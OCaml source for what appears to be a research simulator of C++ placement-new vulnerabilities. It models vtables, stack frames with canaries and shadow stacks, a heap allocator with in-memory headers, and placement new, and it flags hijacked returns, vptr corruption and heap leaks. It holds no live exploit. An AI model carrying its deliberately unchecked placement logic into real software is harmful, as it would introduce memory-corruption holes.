    frames = [];
    shadow = [];
    events = [];
    data_cursor = data_base;
    bss_cursor = bss_base;
    rodata_cursor = rodata_base;
    vtable_addrs = Hashtbl.create 8;
    vtable_classes = Hashtbl.create 8;
    globals = Hashtbl.create 16;
    literals = Hashtbl.create 16;
    tbl_gen = Pna_vmem.Cow.fresh_gen ();
    cow = true;
    input_ints = [];
    input_strings = [];
    output = [];
    san = None;
  }

let arenas t = t.arenas

(* Fault-injection pass-throughs (see [Pna_chaos]): perturb checked memory
   accesses and make selected allocations fail. *)
let set_chaos t hook = Pna_vmem.Vmem.set_chaos t.mem hook
let set_chaos_alloc t hook = Heap.set_chaos_alloc t.heap hook

(* Wire a shadow-memory oracle through every layer that poisons: the
   heap (redzones + quarantine) and, for frames already live at attach
   time, their control slots. The sanitizer itself observes accesses via
   the [Vmem] hook it installed at creation. *)
let attach_sanitizer t san =
  t.san <- san;
  Heap.set_sanitizer t.heap san;
  match san with
  | None -> ()
  | Some s ->
    List.iter
      (fun (f : Frame.t) ->
        let mark slot = San.poison s ~addr:slot ~len:4 San.Stack_meta in
        mark f.Frame.fr_ret_slot;
        Option.iter mark f.Frame.fr_fp_slot;
        Option.iter mark f.Frame.fr_canary_slot)
      t.frames

let sanitizer t = t.san

module Trace = Pna_telemetry.Trace
module Metrics = Pna_telemetry.Metrics

(* Every event is also bridged into the telemetry layer: an instant on
   the current domain's trace track plus a kind-labelled counter in the
   default registry. Gated on the global switch so the hot path pays
   one atomic load when telemetry is off. *)
let emit t e =
  t.events <- e :: t.events;
  if Pna_telemetry.Switch.enabled () then begin
    let kind = Event.kind e in
    Trace.instant ~cat:"machine"
      ~args:[ ("detail", Trace.Str (Event.to_string e)) ]
      kind;
    Metrics.incr
      (Metrics.counter Metrics.default "pna_events_total"
         ~labels:[ ("kind", kind) ])
  end
let events t = List.rev t.events
let config t = t.config
let mem t = t.mem
let env t = t.env
let heap_stats t = Heap.stats t.heap

(* ------------------------------------------------------------------ *)
(* Text symbols and vtables                                            *)

(* Text exhaustion becomes a classified out-of-memory outcome instead of
   an untyped [Failure], matching the rodata/data/bss treatment. *)
let register_function t name =
  try Text.register t.text name
  with Text.Full { requested; used } ->
    let e = Event.Out_of_memory { requested; in_use = used } in
    emit t e;
    raise (Event.Security_stop e)
let function_addr t name = Text.address_exn t.text name
let symbol_at t addr = Text.symbol_at t.text addr

(* Emit the vtable images for every polymorphic class into the read-only
   area. The primary vtable holds the class' merged slot list; every
   polymorphic non-primary base additionally gets a secondary vtable whose
   slots follow the base's own order but point at the derived class'
   (override-resolved) implementations — the Itanium-ABI shape, minus
   thunks. Must be called after all classes are defined and all method
   implementation symbols registered. *)
(* Any mutation of the vtable/global/literal tables must mint a fresh
   generation token, or [restore] would wrongly skip rebuilding them. *)
let[@inline] touch_tables t = t.tbl_gen <- Pna_vmem.Cow.fresh_gen ()

let emit_vtables t =
  let classes =
    Hashtbl.fold (fun name _ acc -> name :: acc) t.env.Layout.classes []
    |> List.sort compare
  in
  let emit_table cname ~vptr_off slots =
    let addr = t.rodata_cursor in
    t.rodata_cursor <- t.rodata_cursor + (4 * List.length slots);
    touch_tables t;
    Hashtbl.replace t.vtable_classes addr (cname, vptr_off);
    List.iteri
      (fun i (_, impl) ->
        let fn = register_function t impl in
        Pna_vmem.Vmem.poke_u32 t.mem (addr + (4 * i)) fn)
      slots;
    addr
  in
  List.iter
    (fun cname ->
      let l = Layout.of_class t.env cname in
      if l.Layout.l_vtable <> [] && not (Hashtbl.mem t.vtable_addrs cname) then begin
        let primary = emit_table cname ~vptr_off:0 l.Layout.l_vtable in
        let secondaries =
          List.filter_map
            (fun (b, off) ->
              if off = 0 then None
              else
                let bl = Layout.of_class t.env b in
                if bl.Layout.l_vtable = [] then None
                else
                  (* base slot order, derived (merged-table) impls *)
                  let slots =
                    List.map
                      (fun (m, base_impl) ->
                        ( m,
                          Option.value
                            (List.assoc_opt m l.Layout.l_vtable)
                            ~default:base_impl ))
                      bl.Layout.l_vtable
                  in
                  Some (off, emit_table cname ~vptr_off:off slots))
            l.Layout.l_bases
        in
        touch_tables t;
        Hashtbl.replace t.vtable_addrs cname ((0, primary) :: secondaries)
      end)
    classes

(* Intern a string literal (or attacker-supplied line) into read-only
   memory, NUL-terminated. Untainted literals are deduplicated, like a
   compiler's string pool; tainted strings get a fresh copy per read. *)
let intern_string ?(tainted = false) t s =
  match if tainted then None else Hashtbl.find_opt t.literals s with
  | Some addr -> addr
  | None ->
    let len = String.length s + 1 in
    if t.rodata_cursor + len > rodata_base + rodata_size then begin
      (* reachable from hostile input: every tainted string gets a fresh
         copy, so a chatty attacker can exhaust the pool — terminate as an
         allocation failure, never as a raw exception *)
      let e =
        Event.Out_of_memory
          { requested = len; in_use = t.rodata_cursor - rodata_base }
      in
      emit t e;
      raise (Event.Security_stop e)
    end;
    let addr = t.rodata_cursor in
    t.rodata_cursor <- addr + len;
    Pna_vmem.Vmem.poke_bytes t.mem addr s;
    Pna_vmem.Vmem.poke_u8 t.mem (addr + String.length s) 0;
    if tainted && String.length s > 0 then
      Pna_vmem.Vmem.set_taint t.mem addr (String.length s) true
    else begin
      touch_tables t;
      Hashtbl.replace t.literals s addr
    end;
    addr

(* The class' primary vtable address. *)
let vtable_addr t cname =
  Option.bind (Hashtbl.find_opt t.vtable_addrs cname) (List.assoc_opt 0)

let class_of_vtable t addr =
  Option.map fst (Hashtbl.find_opt t.vtable_classes addr)

(* Write the hidden vtable pointer(s) of a [cname] object at [addr] — each
   vptr gets the table matching its subobject. The writes are ordinary
   data writes: later overflows can clobber them, which is the §3.8.2
   subterfuge. *)
let install_vptrs t ~addr ~cname =
  let l = Layout.of_class t.env cname in
  match Hashtbl.find_opt t.vtable_addrs cname with
  | None -> ()
  | Some tables ->
    List.iter
      (fun off ->
        let table =
          match List.assoc_opt off tables with
          | Some a -> Some a
          | None -> List.assoc_opt 0 tables
        in
        match table with
        | Some a -> Pna_vmem.Vmem.write_u32 ~tag:"vptr" t.mem (addr + off) a
        | None -> ())
      l.Layout.l_vptrs

let slot_index ~static_class ~meth table =
  let rec idx i = function
    | [] -> Fmt.invalid_arg "dispatch: %s has no virtual %s" static_class meth
    | (m, _) :: rest -> if m = meth then i else idx (i + 1) rest
  in
  idx 0 table

(* Which vptr and which slot a call through [static_class] uses: a method
   introduced by a non-primary base dispatches through that subobject's
   vptr with the slot numbering of the base's own table; everything else
   goes through the primary vptr and the merged table. *)
let dispatch_site t ~static_class ~meth =
  let l = Layout.of_class t.env static_class in
  let primary_table =
    match l.Layout.l_bases with
    | (b, 0) :: _ -> (Layout.of_class t.env b).Layout.l_vtable
    | _ -> []
  in
  if List.mem_assoc meth primary_table then
    (0, slot_index ~static_class ~meth l.Layout.l_vtable)
  else
    let secondary =
      List.find_opt
        (fun (b, off) ->
          off <> 0
          && List.mem_assoc meth (Layout.of_class t.env b).Layout.l_vtable)
        l.Layout.l_bases
    in
    match secondary with
    | Some (b, off) ->
      (off, slot_index ~static_class ~meth (Layout.of_class t.env b).Layout.l_vtable)
    | None ->
      let vptr_off = match l.Layout.l_vptrs with v :: _ -> v | [] -> 0 in
      (vptr_off, slot_index ~static_class ~meth l.Layout.l_vtable)

(* Virtual dispatch: read the vptr of the relevant subobject, then the
   function address from its slot — both straight from simulated memory,
   so a corrupted vptr sends the call wherever the attacker pointed it. *)
let dispatch t ~obj_addr ~static_class ~meth =
  let vptr_off, slot = dispatch_site t ~static_class ~meth in
  let vptr_addr = obj_addr + vptr_off in
  let vptr = Pna_vmem.Vmem.read_u32 t.mem vptr_addr in
  let vptr_tainted = Pna_vmem.Vmem.range_tainted t.mem vptr_addr 4 in
  let known_table = Hashtbl.mem t.vtable_classes vptr in
  let target =
    try Pna_vmem.Vmem.read_u32 t.mem (vptr + (4 * slot))
    with Pna_vmem.Fault.Fault _ -> vptr
  in
  let symbol = symbol_at t target in
  if known_table then
    match symbol with
    | Some impl -> Virtual_ok impl
    | None ->
      (* a real vtable whose slot does not resolve: static type expected a
         larger table than the runtime class provides *)
      Virtual_hijacked { target; symbol = None; tainted = vptr_tainted }
  else begin
    emit t
      (Event.Vptr_hijacked
         { class_ = static_class; addr = obj_addr; actual = vptr; tainted = vptr_tainted });
    Virtual_hijacked { target; symbol; tainted = vptr_tainted }
  end

(* ------------------------------------------------------------------ *)
(* Globals                                                             *)

let align_up x a = (x + a - 1) / a * a

let add_global ?(initialized = false) t name ty =
  if Hashtbl.mem t.globals name then
    Fmt.invalid_arg "Machine.add_global: duplicate global %s" name;
  let size = Layout.sizeof t.env ty in
  let align = max 1 (Layout.alignof t.env ty) in
  (* Segment exhaustion is a classified outcome, not an untyped crash:
     the cursor is left unmoved so the machine stays consistent. *)
  let exhausted ~in_use =
    let e = Event.Out_of_memory { requested = size; in_use } in
    emit t e;
    raise (Event.Security_stop e)
  in
  let addr =
    if initialized then begin
      let a = align_up t.data_cursor align in
      if a + size > data_base + data_size then
        exhausted ~in_use:(t.data_cursor - data_base);
      t.data_cursor <- a + size;
      a
    end
    else begin
      let a = align_up t.bss_cursor align in
      if a + size > bss_base + bss_size then
        exhausted ~in_use:(t.bss_cursor - bss_base);
      t.bss_cursor <- a + size;
      a
    end
  in
  touch_tables t;
  Hashtbl.replace t.globals name (addr, ty);
  Arena.register t.arenas ~base:addr ~size ~origin:(Arena.Global name);
  addr

let global t name = Hashtbl.find_opt t.globals name

let global_addr_exn t name =
  match global t name with
  | Some (addr, _) -> addr
  | None -> Fmt.invalid_arg "Machine: unknown global %s" name

(* ------------------------------------------------------------------ *)
(* Stack frames                                                        *)

let push_u32 ?tag t v =
  t.sp <- t.sp - 4;
  Pna_vmem.Vmem.write_u32 ?tag t.mem t.sp v;
  t.sp

let push_frame t ~func ~ret_to =
  let base = t.sp in
  let ret_slot = push_u32 ~tag:"ret-addr" t ret_to in
  let fp_legit = t.fp in
  let fp_slot =
    if t.config.Config.save_frame_pointer then begin
      let s = push_u32 ~tag:"saved-fp" t t.fp in
      t.fp <- s;
      Some s
    end
    else None
  in
  let canary_slot =
    if t.config.Config.stack_protector then
      Some (push_u32 ~tag:"canary" t t.config.Config.canary_value)
    else None
  in
  if t.config.Config.shadow_stack then t.shadow <- ret_to :: t.shadow;
  let frame =
    Frame.
      {
        fr_func = func;
        fr_base = base;
        fr_ret_slot = ret_slot;
        fr_ret_legit = ret_to;
        fr_fp_slot = fp_slot;
        fr_fp_legit = fp_legit;
        fr_canary_slot = canary_slot;
        fr_locals = [];
      }
  in
  t.frames <- frame :: t.frames;
  (* Shadow the control slots *after* their legitimate writes above: any
     later write to them is a smash. The epilogue reads are unaffected
     (meta bytes only flag on writes). *)
  (match t.san with
  | None -> ()
  | Some s ->
    let mark slot = San.poison s ~addr:slot ~len:4 San.Stack_meta in
    mark ret_slot;
    Option.iter mark fp_slot;
    Option.iter mark canary_slot);
  frame

let current_frame t =
  match t.frames with
  | f :: _ -> f
  | [] -> failwith "Machine: no active frame"

let alloc_local t ~name ~ty =
  let frame = current_frame t in
  let size = Layout.sizeof t.env ty in
  let align = max 1 (Layout.alignof t.env ty) in
  let addr = t.sp - size in
  let addr = addr - (addr mod align) in
  t.sp <- addr;
  Arena.register t.arenas ~base:addr ~size
    ~origin:(Arena.Local { func = frame.Frame.fr_func; var = name });
  frame.Frame.fr_locals <-
    Frame.{ lv_name = name; lv_addr = addr; lv_type = ty; lv_size = size }
    :: frame.Frame.fr_locals;
  addr

(* Name lookup: innermost frame's locals, then globals. *)
let lookup_var t name =
  let local =
    match t.frames with
    | [] -> None
    | f :: _ ->
      Option.map
        (fun l -> (l.Frame.lv_addr, l.Frame.lv_type))
        (Frame.find_local f name)
  in
  match local with Some _ -> local | None -> global t name

let pop_frame t =
  let frame = current_frame t in
  (* StackGuard epilogue: verify the canary before using the return slot. *)
  (match frame.Frame.fr_canary_slot with
  | Some slot ->
    let found = Pna_vmem.Vmem.read_u32 t.mem slot in
    if found <> t.config.Config.canary_value then begin
      let e =
        Event.Canary_smashed
          {
            func = frame.Frame.fr_func;
            expected = t.config.Config.canary_value;
            found;
          }
      in
      emit t e;
      raise (Event.Security_stop e)
    end
  | None -> ());
  let ret = Pna_vmem.Vmem.read_u32 t.mem frame.Frame.fr_ret_slot in
  let ret_tainted = Pna_vmem.Vmem.range_tainted t.mem frame.Frame.fr_ret_slot 4 in
  (* Shadow stack: the hardware return-address stack of §5.2. *)
  if t.config.Config.shadow_stack then begin
    match t.shadow with
    | top :: rest ->
      if ret <> top then begin
        let e =
          Event.Shadow_stack_blocked { func = frame.Frame.fr_func; actual = ret }
        in
        emit t e;
        raise (Event.Security_stop e)
      end;
      t.shadow <- rest
    | [] -> ()
  end;
  (* Frame-pointer integrity is recorded but not enforced (Klog's
     one-byte-overwrite paper is related work, not a defense here). *)
  (match frame.Frame.fr_fp_slot with
  | Some slot ->
    let actual = Pna_vmem.Vmem.read_u32 t.mem slot in
    if actual <> frame.Frame.fr_fp_legit then
      emit t
        (Event.Frame_pointer_corrupted
           {
             func = frame.Frame.fr_func;
             legit = frame.Frame.fr_fp_legit;
             actual;
           })
  | None -> ());
  (* Unwind: locals die, registers restored from the bookkeeping copies. *)
  List.iter
    (fun l -> Arena.unregister t.arenas ~base:l.Frame.lv_addr)
    frame.Frame.fr_locals;
  (* The dead frame's whole extent — control slots, locals, and any
     placement-tail marks inside it — reverts to plain stack. *)
  (match t.san with
  | None -> ()
  | Some s ->
    San.unpoison s ~addr:t.sp ~len:(frame.Frame.fr_base - t.sp));
  t.sp <- frame.Frame.fr_base;
  t.fp <- frame.Frame.fr_fp_legit;
  t.frames <- List.tl t.frames;
  if ret <> frame.Frame.fr_ret_legit then begin
    let symbol = symbol_at t ret in
    emit t
      (Event.Return_hijacked
         {
           func = frame.Frame.fr_func;
           legit = frame.Frame.fr_ret_legit;
           actual = ret;
           symbol;
           tainted = ret_tainted;
         });
    Hijacked { target = ret; symbol; tainted = ret_tainted }
  end
  else Returned

(* Is [addr] inside a segment that should never be executed? Used when a
   hijacked return lands outside text: with NX on, the fetch faults. *)
let in_executable t addr =
  match Pna_vmem.Vmem.find_segment t.mem addr with
  | None -> false
  | Some seg -> seg.Pna_vmem.Segment.perm.Pna_vmem.Perm.execute


(* ------------------------------------------------------------------ *)
(* Heap                                                                *)

let malloc t n =
  match Heap.malloc t.heap n with
  | Some addr ->
    Arena.register t.arenas ~base:addr ~size:(Heap.block_size t.heap addr)
      ~origin:Arena.Heap_block;
    addr
  | None ->
    let e =
      Event.Out_of_memory { requested = n; in_use = (Heap.stats t.heap).Heap.in_use }
    in
    emit t e;
    raise (Event.Security_stop e)

let free t addr =
  Arena.unregister t.arenas ~base:addr;
  Heap.free t.heap addr

(* Delete through a pointer produced by placement new over a heap block:
   without pool discipline only the placed object's footprint is released
   (§4.5); with it, the whole block goes. *)
let delete_placed t addr ~placed_size =
  if t.config.Config.placement_delete then begin
    Arena.unregister t.arenas ~base:addr;
    Heap.free t.heap addr
  end
  else begin
    Arena.unregister t.arenas ~base:addr;
    ignore (Heap.free_partial t.heap addr placed_size)
  end

let leaked_bytes t = (Heap.stats t.heap).Heap.leaked

(* ------------------------------------------------------------------ *)
(* Placement new                                                       *)

type placement = { p_addr : int; p_arena : int option }

(* The core primitive of the paper. [size] is the footprint of the object
   or array being placed; [addr] is the attacker- or programmer-supplied
   target. No check happens unless the bounds-check defense is on — that
   asymmetry *is* the vulnerability class. *)
let placement_new ?cname ?(align = 1) ?declared t ~site ~addr ~size =
  if addr = 0 then Pna_vmem.Fault.raise_ Pna_vmem.Fault.Null_placement;
  if t.config.Config.strict_alignment && align > 1 && addr mod align <> 0 then
    Pna_vmem.Fault.raise_ (Pna_vmem.Fault.Misaligned (addr, align));
  let arena = Arena.remaining t.arenas addr in
  emit t (Event.Placement { site; addr; size; arena });
  (if t.config.Config.bounds_check_placement then
     match arena with
     | Some remaining when size > remaining ->
       let e = Event.Bounds_blocked { site; arena = remaining; placed = size } in
       emit t e;
       raise (Event.Security_stop e)
     | Some _ | None -> ());
  if t.config.Config.sanitize_on_place then begin
    (* wipe the remaining arena (not just the new object's footprint, which
       would leave the §4.3 tail bytes) — but never past the arena, whose
       bounds are the only thing the sanitizer knows *)
    match arena with
    | Some len when len > 0 ->
      (try Pna_vmem.Vmem.fill ~tag:"sanitize" t.mem ~dst:addr ~len 0
       with Pna_vmem.Fault.Fault _ -> ());
      emit t (Event.Arena_sanitized { addr; len })
    | Some _ | None -> ()
  end;
  (* Shadow the placement geometry: an oversize placement poisons the
     spill past the arena (any write there is the §3.x overflow); an
     undersize one poisons the leftover arena bytes as stale (any read
     is the §4.3 leak; a write re-initializes the byte). Existing meta
     states take priority — a tail overlapping a frame's control slots
     must keep flagging as a stack smash. *)
  (match (t.san, arena) with
  | Some s, Some remaining ->
    (* The oracle's notion of the storage being reused is the *declared*
       object the place expression names, when that is narrower than the
       registered arena: placing a GradStudent over [&player.stud1]
       overflows at the member's end (§3.4 internal overflow), even
       though the enclosing global's arena has room. Defense checks above
       deliberately keep the arena view — that blind spot is the paper's
       point. *)
    let remaining =
      match declared with Some d -> min remaining d | None -> remaining
    in
    let extent = max size remaining in
    (* this placement owns [addr, addr+extent): a neighbour's guard zone
       reaching into it is obsolete *)
    San.unpoison_state s ~addr ~len:extent San.Place_guard;
    if size > remaining then
      San.poison_addressable s ~addr:(addr + remaining) ~len:(size - remaining)
        San.Place_tail
    else if size < remaining then begin
      (* only bytes still holding data from before the placement can
         leak; the §5.1 remedy (zero the arena before reuse) leaves
         nothing to mark *)
      let stale_byte a =
        match Pna_vmem.Vmem.find_segment t.mem a with
        | Some seg -> Pna_vmem.Segment.get_byte seg a <> 0
        | None -> false
      in
      for a = addr + size to addr + remaining - 1 do
        if stale_byte a then
          San.poison_addressable s ~addr:a ~len:1 San.Stale_tail
      done
    end;
    (* guard zone past the arena: an exactly-sized placement overflowed
       by a construction loop writes here first (§3.2 Listing 6) *)
    San.poison_addressable s ~addr:(addr + extent) ~len:San.guard_len
      San.Place_guard
  | _ -> ());
  (match cname with
  | Some cname -> install_vptrs t ~addr ~cname
  | None -> ());
  { p_addr = addr; p_arena = arena }

(* ------------------------------------------------------------------ *)
(* Attacker input and program output                                   *)

let set_input ?(ints = []) ?(strings = []) t =
  t.input_ints <- ints;
  t.input_strings <- strings

let next_int t =
  match t.input_ints with
  | [] -> 0 (* EOF on cin leaves the variable zero *)
  | v :: rest ->
    t.input_ints <- rest;
    v

let next_string t =
  match t.input_strings with
  | [] -> ""
  | s :: rest ->
    t.input_strings <- rest;
    s

let print t s = t.output <- s :: t.output
let output t = List.rev t.output

(* ------------------------------------------------------------------ *)
(* Snapshot / restore                                                  *)

(* A full freeze of the simulated process: the address space (via
   [Vmem.snapshot]) plus every piece of out-of-band mutable state — call
   stack, shadow stack, allocator bookkeeping, arena registry, symbol
   table, segment cursors, vtable/global/literal tables, input and output
   streams. Taken right after [Interp.load], it lets a serving layer
   rewind a prepared machine between requests instead of rebuilding the
   image from the program. *)
type snapshot = {
  ms_mem : Pna_vmem.Vmem.snapshot;
  ms_heap : Heap.snapshot;
  ms_text : Text.snapshot;
  ms_arenas : Arena.snapshot;
  ms_sp : int;
  ms_fp : int;
  ms_frames : Frame.t list;
  ms_shadow : int list;
  ms_events : Event.t list;
  ms_data_cursor : int;
  ms_bss_cursor : int;
  ms_rodata_cursor : int;
  ms_vtable_addrs : (string, (int * int) list) Hashtbl.t;
  ms_vtable_classes : (int, string * int) Hashtbl.t;
  ms_globals : (string, int * Ctype.t) Hashtbl.t;
  ms_literals : (string, int) Hashtbl.t;
  ms_tbl_gen : int;
  ms_input_ints : int list;
  ms_input_strings : string list;
  ms_output : string list;
  ms_san : San.snapshot option;
}

(* Frames carry one mutable field (the locals list); copy the records so
   later [alloc_local]s cannot reach back into the snapshot. *)
let copy_frame (f : Frame.t) = { f with Frame.fr_locals = f.Frame.fr_locals }

let snapshot t =
  {
    ms_mem = Pna_vmem.Vmem.snapshot t.mem;
    ms_heap = Heap.snapshot t.heap;
    ms_text = Text.snapshot t.text;
    ms_arenas = Arena.snapshot t.arenas;
    ms_sp = t.sp;
    ms_fp = t.fp;
    ms_frames = List.map copy_frame t.frames;
    ms_shadow = t.shadow;
    ms_events = t.events;
    ms_data_cursor = t.data_cursor;
    ms_bss_cursor = t.bss_cursor;
    ms_rodata_cursor = t.rodata_cursor;
    ms_vtable_addrs = Hashtbl.copy t.vtable_addrs;
    ms_vtable_classes = Hashtbl.copy t.vtable_classes;
    ms_globals = Hashtbl.copy t.globals;
    ms_literals = Hashtbl.copy t.literals;
    ms_tbl_gen = t.tbl_gen;
    ms_input_ints = t.input_ints;
    ms_input_strings = t.input_strings;
    ms_output = t.output;
    ms_san = Option.map San.snapshot t.san;
  }

let restore_table dst src =
  Hashtbl.reset dst;
  Hashtbl.iter (Hashtbl.replace dst) src

(* Rewind the whole process to the snapshot. Chaos hooks are cleared —
   a restored machine must behave exactly like a freshly loaded one, and
   fault injection is re-armed per run by its supervisor. *)
let restore t snap =
  Pna_vmem.Vmem.restore t.mem snap.ms_mem;
  Heap.restore t.heap snap.ms_heap;
  Text.restore ~force:(not t.cow) t.text snap.ms_text;
  Arena.restore t.arenas snap.ms_arenas;
  t.sp <- snap.ms_sp;
  t.fp <- snap.ms_fp;
  t.frames <- List.map copy_frame snap.ms_frames;
  t.shadow <- snap.ms_shadow;
  t.events <- snap.ms_events;
  t.data_cursor <- snap.ms_data_cursor;
  t.bss_cursor <- snap.ms_bss_cursor;
  t.rodata_cursor <- snap.ms_rodata_cursor;
  (* Token equality proves the four tables were not mutated since the
     snapshot (every mutation mints a fresh one), making the rebuild
     skippable — which on the service's rewind path is every time:
     vtables, globals and literals are load-time state, and runtime
     interning of attacker strings is tainted and thus uninterned. *)
  if (not t.cow) || t.tbl_gen <> snap.ms_tbl_gen then begin
    restore_table t.vtable_addrs snap.ms_vtable_addrs;
    restore_table t.vtable_classes snap.ms_vtable_classes;
    restore_table t.globals snap.ms_globals;
    restore_table t.literals snap.ms_literals;
    t.tbl_gen <- snap.ms_tbl_gen
  end;
  t.input_ints <- snap.ms_input_ints;
  t.input_strings <- snap.ms_input_strings;
  t.output <- snap.ms_output;
  (* The sanitizer attachment is runtime configuration and survives; its
     shadow states and recorded violations rewind with the memory they
     describe. *)
  (match (t.san, snap.ms_san) with
  | Some s, Some sn -> San.restore s sn
  | _ -> ());
  set_chaos t None;
  set_chaos_alloc t None

(* Force (or re-enable) copy-on-write rewinds across every layer that
   implements them: segment pages, shadow pages, and the generation-token
   skip over the symbol and vtable/global/literal tables. *)
let set_cow t b =
  t.cow <- b;
  Pna_vmem.Vmem.set_cow t.mem b;
  Option.iter (fun s -> San.set_cow s b) t.san

let pp_events ppf t =
  Fmt.pf ppf "@[<v>%a@]" (Fmt.list ~sep:Fmt.cut Event.pp) (events t)
