(** A first-fit free-list allocator living *inside* the simulated heap
    segment.

    Block format: an 8-byte header [size:4][status:4] directly before the
    payload. Keeping the metadata in simulated memory is deliberate: a heap
    overflow (§3.5.1) can corrupt the next block's header, and the
    allocator then detects the corruption on a later malloc/free exactly
    like a real glibc heap would.

    [free_partial] models the paper's §4.5 memory-leak scenario: after a
    smaller object is placed over a larger heap block, the program releases
    only the smaller object's footprint; the tail of the block remains
    allocated with no pointer to it — leaked. *)

module Vmem = Pna_vmem.Vmem

exception Corrupted of int * string

type stats = {
  mutable allocs : int;
  mutable frees : int;
  mutable in_use : int;  (** payload bytes currently allocated *)
  mutable peak : int;
  mutable leaked : int;  (** bytes stranded by partial frees *)
}

type t = {
  mem : Vmem.t;
  base : int;
  limit : int;
  mutable brk : int;
  stats : stats;
  mutable chaos_alloc : (int -> bool) option;
      (** fault-injection hook: called with the (aligned) request size;
          returning [true] makes this malloc fail as if memory ran out *)
}

let header_size = 8
let min_split = 8
let magic_alloc = 0xa110ca7e
let magic_free = 0xf7eeb10c

let align8 n = (n + 7) land lnot 7

let create mem ~base ~size =
  {
    mem;
    base;
    limit = base + size;
    brk = base;
    stats = { allocs = 0; frees = 0; in_use = 0; peak = 0; leaked = 0 };
    chaos_alloc = None;
  }

let stats t = t.stats
let set_chaos_alloc t hook = t.chaos_alloc <- hook

let write_header t addr ~size ~status =
  Vmem.write_u32 ~tag:"heap-hdr" t.mem (addr - header_size) size;
  Vmem.write_u32 ~tag:"heap-hdr" t.mem (addr - 4) status

let read_header t addr =
  let size = Vmem.read_u32 t.mem (addr - header_size) in
  let status = Vmem.read_u32 t.mem (addr - 4) in
  if status <> magic_alloc && status <> magic_free then
    raise (Corrupted (addr, Fmt.str "bad status word 0x%08x" status));
  if size <= 0 || addr + size > t.limit then
    raise (Corrupted (addr, Fmt.str "implausible block size %d" size));
  (size, status = magic_alloc)

(* Walk the implicit block list: payload addresses in layout order. *)
let iter_blocks t f =
  let rec go payload =
    if payload - header_size < t.brk then begin
      let size, allocated = read_header t payload in
      f payload size allocated;
      go (payload + size + header_size)
    end
  in
  go (t.base + header_size)

let find_fit t n =
  let found = ref None in
  (try
     iter_blocks t (fun payload size allocated ->
         if (not allocated) && size >= n && !found = None then begin
           found := Some (payload, size);
           raise Exit
         end)
   with Exit -> ());
  !found

let bump t n =
  let payload = t.brk + header_size in
  if payload + n > t.limit then None
  else begin
    t.brk <- payload + n;
    write_header t payload ~size:n ~status:magic_alloc;
    Some payload
  end

let account_alloc t n =
  t.stats.allocs <- t.stats.allocs + 1;
  t.stats.in_use <- t.stats.in_use + n;
  t.stats.peak <- max t.stats.peak t.stats.in_use

let malloc t n =
  if n <= 0 then invalid_arg "Heap.malloc: non-positive size";
  let n = align8 n in
  if (match t.chaos_alloc with Some f -> f n | None -> false) then None
  else
  match find_fit t n with
  | Some (payload, size) ->
    let used =
      if size - n >= min_split + header_size then begin
        (* split: trailing remainder becomes a fresh free block *)
        write_header t payload ~size:n ~status:magic_alloc;
        let rest = payload + n + header_size in
        write_header t rest ~size:(size - n - header_size) ~status:magic_free;
        n
      end
      else begin
        (* too small to split: the whole block is handed out *)
        write_header t payload ~size ~status:magic_alloc;
        size
      end
    in
    account_alloc t used;
    Some payload
  | None -> (
    match bump t n with
    | Some payload ->
      account_alloc t n;
      Some payload
    | None -> None)

let block_size t payload = fst (read_header t payload)

(* the free block (if any) directly before [payload], found by walking the
   implicit list — no footers to corrupt, at the cost of O(blocks) frees,
   which is irrelevant at simulation scale *)
let prev_free_neighbour t payload =
  let found = ref None in
  (try
     iter_blocks t (fun p size allocated ->
         if p + size + header_size = payload then begin
           found := (if allocated then None else Some (p, size));
           raise Exit
         end
         else if p >= payload then raise Exit)
   with Exit -> ());
  !found

let free t payload =
  let size, allocated = read_header t payload in
  if not allocated then raise (Corrupted (payload, "double free"));
  write_header t payload ~size ~status:magic_free;
  t.stats.frees <- t.stats.frees + 1;
  t.stats.in_use <- t.stats.in_use - size;
  (* coalesce with the next block when it is free *)
  let payload, size =
    let next = payload + size + header_size in
    if next - header_size < t.brk then begin
      let nsize, nalloc = read_header t next in
      if not nalloc then begin
        let size = size + header_size + nsize in
        write_header t payload ~size ~status:magic_free;
        (payload, size)
      end
      else (payload, size)
    end
    else (payload, size)
  in
  (* ... and with the previous block *)
  match prev_free_neighbour t payload with
  | Some (prev, psize) ->
    write_header t prev ~size:(psize + header_size + size) ~status:magic_free
  | None -> ()

(* Release only the first [n] payload bytes of the block; the tail stays
   allocated but unreachable. Returns the number of leaked bytes. *)
let free_partial t payload n =
  let size, allocated = read_header t payload in
  if not allocated then raise (Corrupted (payload, "partial free of free block"));
  let n = align8 n in
  if n + header_size + min_split > size then begin
    free t payload;
    0
  end
  else begin
    let tail = payload + n + header_size in
    let tail_size = size - n - header_size in
    write_header t tail ~size:tail_size ~status:magic_alloc;
    write_header t payload ~size:n ~status:magic_alloc;
    t.stats.in_use <- t.stats.in_use - header_size;
    free t payload;
    t.stats.leaked <- t.stats.leaked + tail_size + header_size;
    tail_size + header_size
  end

(* Allocator bookkeeping snapshot: the block headers themselves live in
   simulated memory and are captured by [Vmem.snapshot]; this records the
   out-of-band state (break pointer, statistics). *)
type snapshot = { sn_brk : int; sn_stats : stats }

let snapshot t =
  {
    sn_brk = t.brk;
    sn_stats =
      {
        allocs = t.stats.allocs;
        frees = t.stats.frees;
        in_use = t.stats.in_use;
        peak = t.stats.peak;
        leaked = t.stats.leaked;
      };
  }

let restore t snap =
  t.brk <- snap.sn_brk;
  t.stats.allocs <- snap.sn_stats.allocs;
  t.stats.frees <- snap.sn_stats.frees;
  t.stats.in_use <- snap.sn_stats.in_use;
  t.stats.peak <- snap.sn_stats.peak;
  t.stats.leaked <- snap.sn_stats.leaked

let live_blocks t =
  let n = ref 0 in
  iter_blocks t (fun _ _ allocated -> if allocated then incr n);
  !n

let pp ppf t =
  Fmt.pf ppf "heap: brk=0x%08x in_use=%d peak=%d allocs=%d frees=%d leaked=%d"
    t.brk t.stats.in_use t.stats.peak t.stats.allocs t.stats.frees
    t.stats.leaked
