(** A first-fit free-list allocator living *inside* the simulated heap
    segment.

    Block format: an 8-byte header [size:4][status:4] directly before the
    payload. Keeping the metadata in simulated memory is deliberate: a heap
    overflow (§3.5.1) can corrupt the next block's header, and the
    allocator then detects the corruption on a later malloc/free exactly
    like a real glibc heap would.

    [free_partial] models the paper's §4.5 memory-leak scenario: after a
    smaller object is placed over a larger heap block, the program releases
    only the smaller object's footprint; the tail of the block remains
    allocated with no pointer to it — leaked. *)

module Vmem = Pna_vmem.Vmem
module San = Pna_sanitizer.Sanitizer

exception Corrupted of int * string

type stats = {
  mutable allocs : int;
  mutable frees : int;
  mutable in_use : int;  (** payload bytes currently allocated *)
  mutable peak : int;
  mutable leaked : int;  (** bytes stranded by partial frees *)
}

type t = {
